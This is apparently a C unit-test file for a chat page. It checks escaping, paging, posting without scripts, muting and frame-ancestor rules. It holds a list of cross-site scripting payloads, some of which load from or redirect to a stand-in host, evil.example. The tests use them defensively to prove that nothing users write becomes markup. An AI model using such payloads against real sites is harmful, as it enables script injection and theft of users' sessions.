/* The chat page: what it shows, that it pages without a script, and that nothing anybody wrote ever
 * becomes markup. */
#include "tests/lib/web.h"

#include <ctype.h>
#include <stdio.h>
#include <string.h>
#include <strings.h>

static const char page[] = "/stocks/chat/";

/* Ways in which text has become markup elsewhere. */
static const char *const payloads[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "</bdi></p></div></main><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{config}} {{{message}}} {{#messages}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "<math><mtext></p><style><img src=x onerror=alert(1)>",
    "<form action=//evil.example><input name=csrf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<object data=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "x\xe2\x80\xa8<script>alert(1)</script>\xe2\x80\xa9x",
    "]]>\"}'></script><b>",
    "<ScRiPt\t>alert(1)</sCrIpT\t>",
    "<x onclick=alert(1)>y",
    "`-alert(1)-`${alert(1)}",
    "javascript:alert(1)",
};

/* ----- a small reader of tags: enough to see what a browser would take for one ----- */

struct tags {
    size_t count, scripts;
    uint64_t shape; /* of names and attribute names, in order */
};

static void mix(struct tags *t, const char *s, size_t len)
{
    for (size_t i = 0; i < len; i++)
        t->shape = (t->shape ^ (uint64_t)tolower((unsigned char)s[i])) * 1099511628211u;
}

static void check_value(const char *name, size_t name_len, const char *value, size_t len)
{
    bool is_url = (name_len == 4 && strncasecmp(name, "href", 4) == 0) ||
                  (name_len == 3 && strncasecmp(name, "src", 3) == 0) ||
                  (name_len == 6 && strncasecmp(name, "action", 6) == 0);

    if (is_url && len > 0 && !((*value == '/' || *value == '#') && !(len > 1 && value[1] == '/')))
        fail_msg("%.*s=\"%.*s\"", (int)name_len, name, (int)len, value);
}

/* From after '<' to after '>'. Attribute values in our templates are double-quoted. */
static const char *read_tag(struct tags *t, const char *p)
{
    const char *name = p;

    p += strcspn(p, " \t\n/>");
    mix(t, name, (size_t)(p - name));
    t->count++;
    t->scripts += p - name == 6 && strncasecmp(name, "script", 6) == 0;
    while (*p && *p != '>') {
        const char *attribute = p += strspn(p, " \t\n/");
        size_t len = strcspn(p, " \t\n/>=");

        p += len;
        mix(t, attribute, len);
        if (len >= 2 && strncasecmp(attribute, "on", 2) == 0)
            fail_msg("attribute %.*s", (int)len, attribute);
        if (len == 5 && strncasecmp(attribute, "style", 5) == 0)
            fail_msg("a style attribute");
        if (*p == '=') {
            const char *end = p[1] == '"' ? strchr(p + 2, '"') : NULL;

            assert_non_null(end);
            check_value(attribute, len, p + 2, (size_t)(end - p - 2));
            p = end + 1;
        }
    }
    return *p ? p + 1 : p;
}

static struct tags read_tags(const char *html)
{
    struct tags t = {.shape = 14695981039346656037u};

    for (const char *p = strchr(html, '<'); p; p = strchr(p, '<')) {
        p++;
        assert_true(isalpha((unsigned char)*p) || *p == '/' || strncmp(p, "!doctype", 8) == 0);
        if (*p == '/' || *p == '!') {
            p += strcspn(p, ">");
            continue;
        }
        p = read_tag(&t, p);
    }
    return t;
}

/* ----- */

/* Into the rows directly: what the rules would never let in must be harmless all the same. */
static void put(struct web *w, const char *column, const char *value, int64_t seq)
{
    struct buf sql;

    buf_init(&sql, 10000);
    buf_fmt(&sql, "UPDATE %s = '", column);
    for (const char *p = value; *p; p++)
        buf_str(&sql, *p == '\'' ? "''" : (char[]){*p, '\0'});
    buf_str(&sql, "'");
    if (seq)
        buf_fmt(&sql, " WHERE seq = %lld", (long long)seq);
    fixture_sql(w->fx, buf_cstr(&sql));
    buf_release(&sql);
}

static void post_as(struct web *w, const char *username, const char *text)
{
    struct actor ana = fixture_user(w->fx, "7", "ana");

    put(w, "message SET author_name", username,
        fixture_post(w->fx, &ana, "general", text).message.seq);
}

static struct tags page_with(const char *name, const char *text, const char *title)
{
    struct web *w = web_open();
    struct tags tags;

    post_as(w, name, "said");
    put(w, "message SET body", text, 0); /* markup of our own making is test_markup's */
    put(w, "room SET title", title, 0);
    put(w, "room SET topic", title, 0);
    web_join(w, "eve");
    put(w, "user SET username", name, 0);
    web_json_request(w, "POST", "/api/stocks/chat/presence/",
                     "{\"conn\":\"abcdefgh\",\"state\":\"active\"}");
    assert_int_equal(w->status, 204);
    assert_int_equal(web_get(w, page), 200);
    tags = read_tags(web_text(w));
    web_close(w);
    return tags;
}

static void test_nothing_written_becomes_markup(void **state)
{
    struct tags plain = page_with("ana", "plain", "plain");

    (void)state;
    assert_int_equal(plain.scripts, 1); /* the module */
    for (size_t i = 0; i < ARRAY_LEN(payloads); i++) {
        struct tags t = page_with(payloads[i], payloads[i], payloads[i]);

        if (t.count != plain.count || t.shape != plain.shape)
            fail_msg("changed the page's tags: %s", payloads[i]);
    }
}

static void test_the_text_is_there_as_it_was_written(void **state)
{
    struct web *w = web_open();
    struct actor ana = fixture_user(w->fx, "7", "ana");

    (void)state;
    w->fx->conf.rate_user_burst = 100;
    for (size_t i = 0; i < ARRAY_LEN(payloads); i++) {
        struct buf escaped;

        fixture_post(w->fx, &ana, "general", payloads[i]);
        web_get(w, page);
        buf_init(&escaped, 10000);
        buf_html(&escaped, payloads[i], strlen(payloads[i]));
        if (!strstr(web_text(w), buf_cstr(&escaped)))
            fail_msg("not on the page: %s", payloads[i]);
        web_get(w, "/stocks/chat/?format=json");
        assert_string_equal(web_json_text(w, arena_fmt(&w->fx->arena, "messages.%zu.message", i)),
                            payloads[i]);
        buf_release(&escaped);
    }
    web_close(w);
}

static void test_the_error_page_escapes_what_it_keeps(void **state)
{
    struct web *w = web_open();
    struct tags plain;

    (void)state;
    web_form(w, "/api/stocks/chat/messages/create/", "message=plain&room=nope&username=eve");
    assert_int_equal(w->status, 404);
    plain = read_tags(web_text(w));
    for (size_t i = 0; i < ARRAY_LEN(payloads); i++) {
        struct buf form;
        struct tags t;

        buf_init(&form, 10000);
        buf_str(&form, "message=");
        buf_url(&form, payloads[i], strlen(payloads[i]));
        buf_str(&form, "&username=eve&room=");
        buf_url(&form, payloads[i], strlen(payloads[i]));
        buf_str(&form, "&client_id=");
        buf_url(&form, payloads[i], strlen(payloads[i]));
        web_form(w, "/api/stocks/chat/messages/create/", buf_cstr(&form));
        assert_in_range(w->status, 400, 404);
        t = read_tags(web_text(w));
        if (t.shape != plain.shape)
            fail_msg("changed the error page's tags: %s", payloads[i]);
        web_get(w, arena_fmt(&w->fx->arena, "/stocks/chat/r/x/?before=%s", buf_cstr(&form) + 8));
        read_tags(web_text(w));
        buf_release(&form);
    }
    web_close(w);
}

static void test_the_page_shows_room_rows_people_and_form(void **state)
{
    struct web *w = web_open();
    struct actor bob = fixture_user(w->fx, "8", "bob");

    (void)state;
    fixture_post(w->fx, &bob, "general", "first");
    fixture_post(w->fx, &bob, "general", "second");
    web_join(w, "ana");
    web_json_request(w, "POST", "/api/stocks/chat/presence/",
                     "{\"conn\":\"abcdefgh\",\"state\":\"active\"}");
    assert_int_equal(web_get(w, page), 200);
    assert_non_null(strstr(web_text(w), "<h1"));
    assert_non_null(strstr(web_text(w), ">first<"));
    assert_null(strstr(web_text(w), "data-client")); /* of others' rows, and of the template's */
    assert_non_null(strstr(web_text(w), "action=\"/api/stocks/chat/messages/create/\""));
    assert_non_null(strstr(web_text(w), "name=\"csrf\" value=\""));
    assert_string_equal(web_header(w, "Content-Type"), "text/html; charset=utf-8");
    web_get(w, "/stocks/chat/?format=json");
    assert_string_equal(web_json_text(w, "room.id"), "general");
    assert_string_equal(web_json_text(w, "room.url"), "/stocks/chat/r/general/");
    assert_string_equal(web_json_text(w, "messages.0.initial"), "B");
    assert_string_equal(web_json_text(w, "messages.0.time_iso"), "2026-11-22T09:00:00Z");
    assert_string_equal(web_json_text(w, "messages.0.time_label"), "09:00 UTC");
    assert_string_equal(web_json_text(w, "messages.0.day_label"), "22 November 2026");
    assert_string_equal(web_json_text(w, "messages.1.day_label"), "");
    assert_true(json_object_get_boolean(web_json(w, "messages.1.continued")));
    assert_false(json_object_get_boolean(web_json(w, "messages.1.mine")));
    assert_string_equal(web_json_text(w, "online.0.username"), "ana");
    assert_int_equal(web_json_number(w, "online_count"), 1);
    assert_true(json_object_get_boolean(web_json(w, "can_post")));
    assert_false(json_object_get_boolean(web_json(w, "can_join")));
    assert_int_equal(strlen(web_json_text(w, "csrf")), strlen(w->csrf));
    assert_int_equal(strlen(web_json_text(w, "form.client_id")), 24);
    assert_true(json_object_get_boolean(web_json(w, "rooms.0.current")));
    assert_int_equal(web_json_number(w, "seq"), 3);
    web_close(w);
}

static void test_the_pages_cursor_is_that_of_its_rows(void **state)
{
    struct web *w = web_open();
    struct actor bob = fixture_user(w->fx, "8", "bob");
    struct json_object *config;
    struct fail f;
    const char *text;

    (void)state;
    for (int i = 0; i < 3; i++)
        fixture_post(w->fx, &bob, "energy", "x");
    web_get(w, "/stocks/chat/r/energy/?format=json");
    text = web_json_text(w, "config");
    assert_int_equal(json_parse(text, strlen(text), &config, &f), OK);
    assert_string_equal(json_object_get_string(json_object_object_get(config, "room")), "energy");
    assert_int_equal(json_object_get_int64(json_object_object_get(config, "seq")), 4);
    assert_int_equal(web_json_number(w, "messages.2.seq"), 4);
    assert_string_equal(json_object_get_string(json_object_object_get(config, "epoch")),
                        web_json_text(w, "epoch"));
    assert_int_equal(json_object_object_length(json_object_object_get(config, "rooms")), 12);
    assert_null(json_object_object_get(config, "user"));
    json_object_put(config);
    web_close(w);
}

/* Follows a link of the page's JSON twin. */
static void follow(struct web *w, const char *link)
{
    const char *url = web_json_text(w, link);

    assert_int_equal(web_get(w, arena_fmt(&w->fx->arena, "%s&format=json", url)), 200);
}

static void test_links_page_through_the_history_and_back(void **state)
{
    struct web *w = web_open();
    struct actor bob = fixture_user(w->fx, "8", "bob");
    int64_t head;

    (void)state;
    w->fx->conf.rate_user_burst = 200;
    for (int i = 0; i < 120; i++)
        fixture_post(w->fx, &bob, "general", "x");
    head = fixture_room(w->fx, "general").head;
    web_get(w, "/stocks/chat/?format=json");
    assert_false(json_object_get_boolean(web_json(w, "paging")));
    assert_false(json_object_get_boolean(web_json(w, "has_newer")));
    follow(w, "older_url");
    assert_true(json_object_get_boolean(web_json(w, "paging")));
    assert_int_equal(web_json_number(w, "messages.49.seq"), head - 50);
    follow(w, "older_url");
    assert_int_equal(json_object_array_length(web_json(w, "messages")), 20);
    assert_false(json_object_get_boolean(web_json(w, "has_older")));
    assert_true(json_object_get_boolean(web_json(w, "has_newer")));
    follow(w, "newer_url");
    assert_int_equal(web_json_number(w, "messages.0.seq"), head - 99);
    assert_true(json_object_get_boolean(web_json(w, "has_older")));
    follow(w, "newer_url");
    assert_int_equal(web_json_number(w, "messages.49.seq"), head);
    assert_false(json_object_get_boolean(web_json(w, "has_newer")));
    web_get(w, page);
    assert_non_null(strstr(web_text(w), "?before="));
    assert_null(strstr(web_text(w), "?after="));
    web_close(w);
}

static void test_an_empty_room_has_nothing_to_page_through(void **state)
{
    struct web *w = web_open();

    (void)state;
    web_get(w, "/stocks/chat/r/energy/?format=json");
    assert_int_equal(json_object_array_length(web_json(w, "messages")), 0);
    assert_false(json_object_get_boolean(web_json(w, "has_older")));
    assert_false(json_object_get_boolean(web_json(w, "has_newer")));
    assert_int_equal(web_get(w, "/stocks/chat/r/energy/"), 200);
    web_close(w);
}

static void test_read_post_and_read_again_without_a_script(void **state)
{
    struct web *w = web_open();
    const char *cookie, *csrf, *client_id;

    (void)state;
    web_get(w, page);
    assert_non_null(strstr(web_text(w), "action=\"/api/stocks/chat/session/\""));
    web_form(w, "/api/stocks/chat/session/", "csrf=&username=ana&next_room=general");
    assert_int_equal(w->status, 303);
    cookie = web_header(w, "Set-Cookie");
    w->cookie = arena_strn(&w->fx->arena, cookie, strcspn(cookie, ";"));
    web_get(w, arena_fmt(&w->fx->arena, "%s?format=json", web_header(w, "Location")));
    csrf = arena_str(&w->fx->arena, web_json_text(w, "csrf"));
    client_id = arena_str(&w->fx->arena, web_json_text(w, "form.client_id"));
    web_form(w, "/api/stocks/chat/messages/create/",
             arena_fmt(&w->fx->arena, "csrf=%s&client_id=%s&room=general&message=Hello+all", csrf,
                       client_id));
    assert_int_equal(w->status, 303);
    assert_string_equal(web_header(w, "Location"), "/stocks/chat/r/general/");
    web_get(w, web_header(w, "Location"));
    assert_non_null(strstr(web_text(w), ">Hello all<"));
    assert_non_null(strstr(web_text(w), "msg-mine"));
    assert_non_null(strstr(web_text(w), client_id)); /* the row has the form's */
    web_close(w);
}

static void test_the_muted_are_told(void **state)
{
    struct web *w = web_open();
    struct actor ana = fixture_user(w->fx, "7", "ana");

    (void)state;
    FIXTURE_WRITE(w->fx, user_update_sanctions(w->fx->chat.db, ana.user_id, FIXTURE_NOW_MS + 60000,
                                               0, 0, &w->fx->fail));
    web_sign_in(w, "7", "ana");
    assert_int_equal(web_get(w, page), 200);
    assert_non_null(strstr(web_text(w), "You are muted"));
    assert_int_equal(web_form(w, "/api/stocks/chat/messages/create/", "message=x"), 403);
    web_close(w);
}

static void test_names_of_any_script_have_an_initial(void **state)
{
    static const struct {
        const char *name, *initial;
    } cases[] = {
        {"ana", "A"},
        {"Ärger", "Ä"},
        {"日本", "日"},
        {"7up", "7"},
        {"\xf0\x9f\x98\x80x", "\xf0\x9f\x98\x80"},
    };
    struct web *w = web_open();

    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
        post_as(w, cases[i].name, "x");
    web_get(w, "/stocks/chat/?format=json");
    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
        assert_string_equal(web_json_text(w, arena_fmt(&w->fx->arena, "messages.%zu.initial", i)),
                            cases[i].initial);
    web_close(w);
}

static const char *socket_path(struct web *w)
{
    struct json_object *config;
    struct fail f;
    const char *text, *path;

    web_get(w, "/stocks/chat/?format=json");
    text = web_json_text(w, "config");
    assert_int_equal(json_parse(text, strlen(text), &config, &f), OK);
    path = arena_str(&w->fx->arena, json_object_get_string(json_object_object_get(config, "ws")));
    json_object_put(config);
    return path;
}

static void test_where_there_is_no_sidecar_the_script_is_not_told_of_one(void **state)
{
    struct web *w = web_open();

    (void)state;
    assert_string_equal(socket_path(w), "/ws/chat");
    w->fx->conf.sidecar = SIDECAR_ON_DEMAND;
    web_reconfigured(w);
    assert_string_equal(socket_path(w), "/ws/chat");
    w->fx->conf.sidecar = SIDECAR_OFF;
    web_reconfigured(w);
    assert_string_equal(socket_path(w), "");
    web_close(w);
}

/* As a browser asks for what it is to show in another site's page. */
static int get_in_frame(struct web *w)
{
    web_begin(w, "GET", "/stocks/chat/");
    web_set(w, "HTTP_SEC_FETCH_SITE", "cross-site");
    web_set(w, "HTTP_SEC_FETCH_MODE", "navigate");
    web_set(w, "HTTP_SEC_FETCH_DEST", "iframe");
    return web_send(w);
}

static void test_only_named_origins_may_frame_the_page(void **state)
{
    struct web *w = web_open_with("embed_origins = https://host.example http://127.0.0.1:8000\n");

    (void)state;
    web_get(w, "/stocks/chat/?embed=1");
    assert_non_null(strstr(web_header(w, "Content-Security-Policy"),
                           "frame-ancestors https://host.example http://127.0.0.1:8000;"));
    assert_null(web_header(w, "X-Frame-Options"));
    assert_non_null(strstr(web_text(w), "class=\"embed\""));
    web_get(w, "/stocks/chat/");
    assert_null(strstr(web_text(w), "class=\"embed\""));
    web_get(w, "/api/stocks/chat/messages/");
    assert_string_equal(web_header(w, "X-Frame-Options"), "DENY");
    assert_int_equal(get_in_frame(w), 200);
    web_close(w);
    w = web_open();
    assert_int_equal(get_in_frame(w), 403);
    web_get(w, "/stocks/chat/?embed=1");
    assert_non_null(strstr(web_header(w, "Content-Security-Policy"), "frame-ancestors 'none'"));
    assert_string_equal(web_header(w, "X-Frame-Options"), "DENY");
    assert_null(strstr(web_text(w), "class=\"embed\""));
    web_close(w);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_nothing_written_becomes_markup),
        cmocka_unit_test(test_the_text_is_there_as_it_was_written),
        cmocka_unit_test(test_the_error_page_escapes_what_it_keeps),
        cmocka_unit_test(test_the_page_shows_room_rows_people_and_form),
        cmocka_unit_test(test_the_pages_cursor_is_that_of_its_rows),
        cmocka_unit_test(test_links_page_through_the_history_and_back),
        cmocka_unit_test(test_an_empty_room_has_nothing_to_page_through),
        cmocka_unit_test(test_read_post_and_read_again_without_a_script),
        cmocka_unit_test(test_the_muted_are_told),
        cmocka_unit_test(test_names_of_any_script_have_an_initial),
        cmocka_unit_test(test_where_there_is_no_sidecar_the_script_is_not_told_of_one),
        cmocka_unit_test(test_only_named_origins_may_frame_the_page),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
